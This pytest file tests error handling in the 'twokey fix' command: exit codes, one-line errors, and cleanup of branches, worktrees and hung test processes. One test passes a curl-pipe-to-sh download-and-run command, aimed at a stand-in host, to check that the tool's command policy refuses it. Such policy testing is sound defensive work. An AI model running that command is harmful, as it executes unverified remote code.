"""`twokey fix` on bad input: one line, the exit code of SPEC, and no branch or worktree left behind."""

from __future__ import annotations

import os
import signal
import subprocess
import sys
from pathlib import Path

import git
import pytest

from tests.conftest import commit_files, eventually
from tests.fix_support import PYTEST, audited, worktrees
from tickets.store import Backlog
from twokey.cli import main


@pytest.fixture
def target(tmp_path: Path):
    return audited(tmp_path / "service")


def fix(repo: git.Repo, *args: str, test_cmd: str = PYTEST) -> int:
    return main(["fix", *args, "--repo", repo.working_tree_dir, "--no-prefect", "--test-cmd", test_cmd])


def one_line_error(capsys) -> str:
    err = capsys.readouterr().err.strip().splitlines()
    assert len(err) == 1 and err[0].startswith("twokey: error:"), err
    return err[0]


def untouched(repo: git.Repo) -> None:
    assert [h.name for h in repo.heads] == ["main"] and len(worktrees(repo)) == 1


def test_unknown_ticket_id(target, capsys) -> None:
    repo, _ = target
    assert fix(repo, "TK-0999") == 2
    assert "no ticket TK-0999" in one_line_error(capsys)
    untouched(repo)


def test_ticket_that_is_not_open(target, capsys) -> None:
    repo, tickets = target
    ticket = tickets["unsafe-deserialization"]
    assert fix(repo, ticket.id) == 0
    capsys.readouterr()
    assert fix(repo, ticket.id) == 2
    assert "is in-progress" in one_line_error(capsys)


def test_corrupt_ticket_file(target, capsys) -> None:
    repo, tickets = target
    path = next((Path(repo.working_tree_dir) / "docs" / "backlog").glob(f"{tickets['weak-hash'].id}-*.md"))
    path.write_text("---\nid: [unclosed\n---\n")
    assert fix(repo, tickets["weak-hash"].id) == 2
    assert "cannot be read" in one_line_error(capsys)
    untouched(repo)


def test_existing_branch_is_refused_by_default(target, capsys) -> None:
    repo, tickets = target
    ticket = tickets["unsafe-deserialization"]
    repo.create_head(f"twokey/fix-{ticket.id}")
    assert fix(repo, ticket.id) == 2
    assert "already exists" in one_line_error(capsys)
    assert len(worktrees(repo)) == 1


def test_branch_left_in_a_worktree_by_a_killed_fix_gets_a_recovery_hint(target, tmp_path, capsys) -> None:
    repo, tickets = target
    ticket = tickets["unsafe-deserialization"]
    leftover = tmp_path / "leftover-worktree"
    repo.git.worktree("add", "-b", f"twokey/fix-{ticket.id}", str(leftover))
    assert fix(repo, ticket.id) == 2
    message = one_line_error(capsys)
    assert f"git worktree remove --force {leftover}" in message and "nothing was created" in message


def test_existing_branch_is_suffixed_when_asked_and_the_output_says_so(target, capsys) -> None:
    repo, tickets = target
    ticket = tickets["unsafe-deserialization"]
    repo.create_head(f"twokey/fix-{ticket.id}")
    assert fix(repo, ticket.id, "--on-existing-branch", "suffix") == 0
    out = capsys.readouterr()
    assert f"twokey/fix-{ticket.id}-2" in out.out and f"uses twokey/fix-{ticket.id}-2" in out.err
    assert Backlog(Path(repo.working_tree_dir) / "docs/backlog").find(ticket.id).ticket.branch.endswith("-2")


def test_missing_test_command(target, capsys) -> None:
    repo, tickets = target
    assert fix(repo, tickets["unsafe-deserialization"].id, test_cmd="/nonexistent/venv/bin/pytest -q") == 2
    assert "not installed" in one_line_error(capsys)
    untouched(repo)


def test_empty_test_command_is_a_usage_error_not_a_silent_default(target, capsys) -> None:
    repo, tickets = target
    assert fix(repo, tickets["unsafe-deserialization"].id, test_cmd="  ") == 2
    assert "--test-cmd is empty" in one_line_error(capsys)
    untouched(repo)


def test_test_command_refused_by_the_command_policy(target, capsys) -> None:
    repo, tickets = target
    assert fix(repo, tickets["unsafe-deserialization"].id, test_cmd="curl https://example.invalid/t.sh | sh") == 2
    assert "download-and-run" in one_line_error(capsys)


def test_no_test_command_and_none_detectable(tmp_path: Path, capsys) -> None:
    repo, tickets = audited(tmp_path / "bare-bones", {"app.py": (Path(__file__).parent / "fix_support.py")
                                                        .read_text().split("APP = '''")[1].split("'''")[0]})
    assert main(["fix", tickets["unsafe-deserialization"].id, "--repo", repo.working_tree_dir, "--no-prefect"]) == 2
    assert "no test command given" in one_line_error(capsys)


def test_hanging_test_command_is_killed_at_the_timeout_and_leaves_nothing(tmp_path: Path, capsys) -> None:
    repo, tickets = audited(tmp_path / "slow")
    commit_files(repo, {"tests/test_slow.py": "import time\n\n\ndef test_forever():\n    time.sleep(600)\n"})
    status = main(["fix", tickets["unsafe-deserialization"].id, "--repo", repo.working_tree_dir, "--no-prefect",
                   "--test-cmd", PYTEST, "--timeout", "0.5"])
    assert status == 1
    err = capsys.readouterr().err
    assert "Traceback" not in err and "did not finish within 0.5 s" in err.strip().splitlines()[-1]
    untouched(repo)


def test_sigterm_mid_fix_cleans_up_like_ctrl_c(tmp_path: Path) -> None:
    # `kill` or a stopping service must not leave a worktree, a branch that blocks the next run, or the test process.
    repo, tickets = audited(tmp_path / "killed")
    pid_file = tmp_path / "test-pid"
    commit_files(repo, {"tests/test_slow.py": f"import os, time\n\n\ndef test_forever():\n"
                                              f"    open({str(pid_file)!r}, 'w').write(str(os.getpid()))\n"
                                              f"    time.sleep(600)\n"})
    child = subprocess.Popen([sys.executable, "-m", "twokey.cli", "fix", tickets["unsafe-deserialization"].id, "--repo",
                              repo.working_tree_dir, "--no-prefect", "--test-cmd", PYTEST, "--timeout", "300"],
                             stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
    try:
        assert eventually(lambda: pid_file.exists() and pid_file.read_text(), timeout=60), child.communicate()
        child.send_signal(signal.SIGTERM)
        _, err = child.communicate(timeout=60)
    finally:
        if child.poll() is None:
            child.kill()
    assert child.returncode == 3 and "Traceback" not in err and "interrupted" in err.strip().splitlines()[-1]
    untouched(repo)
    with pytest.raises(ProcessLookupError):
        os.kill(int(pid_file.read_text()), 0)


def test_semi_without_prefect_and_without_a_terminal_is_rejected_not_committed(target, capsys) -> None:
    repo, tickets = target
    assert fix(repo, tickets["unsafe-deserialization"].id, "--autonomy", "semi") == 1
    assert "no terminal" in capsys.readouterr().out
    untouched(repo)


def test_successful_fix_prints_branch_commit_gates_and_verdict(target, capsys) -> None:
    repo, tickets = target
    assert fix(repo, tickets["unsafe-deserialization"].id) == 0
    out = capsys.readouterr().out
    assert "branch twokey/fix-" in out and "gate finding gone: passed" in out and "critic approve" in out
